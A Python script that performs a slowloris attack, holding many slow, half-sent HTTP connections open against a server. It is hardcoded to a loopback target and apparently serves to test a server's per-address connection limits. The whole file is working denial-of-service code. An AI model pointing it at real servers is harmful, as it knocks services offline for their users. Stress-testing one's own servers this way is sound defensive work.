#!/usr/bin/env python3
"""Holds N slow connections open against a server, as a slowloris attack does: each sends
half a request line, then one more header byte every INTERVAL seconds, and is reopened as
soon as the server closes it. Connections come from SOURCE (a loopback address of its own, so
a per-address cap on the server sees one attacker). Runs until killed; every second it prints
how many are open, how many the server closed and how many it refused.

usage: slowloris.py PORT N [SOURCE] [INTERVAL]"""
import socket, sys, time

port, n = int(sys.argv[1]), int(sys.argv[2])
source = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.2"
interval = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
conns, closed, refused = [], 0, 0

def connect():
    global refused
    s = socket.socket()
    s.bind((source, 0))
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /?slow HTTP/1.1\r\nHost: x\r\n")
        s.setblocking(False)
        return s
    except OSError:
        refused += 1
        s.close()
        return None

last = 0
while True:
    while len(conns) < n:
        c = connect()
        if c is None:
            time.sleep(0.01)
            break
        conns.append(c)
    alive = []
    for c in conns:
        try:
            data = c.recv(4096)
            # Anything back (a 503, a 408) or EOF means the server gave up on this connection.
            c.close(); closed += 1
            if data.startswith(b"HTTP/1.1 503"): refused += 1
        except BlockingIOError:
            try:
                c.send(b"X")
                alive.append(c)
            except OSError:
                c.close(); closed += 1
        except OSError:
            c.close(); closed += 1
    conns = alive
    if time.time() - last >= 1:
        print(f"open {len(conns)} closed {closed} refused {refused}", flush=True)
        last = time.time()
    time.sleep(interval)
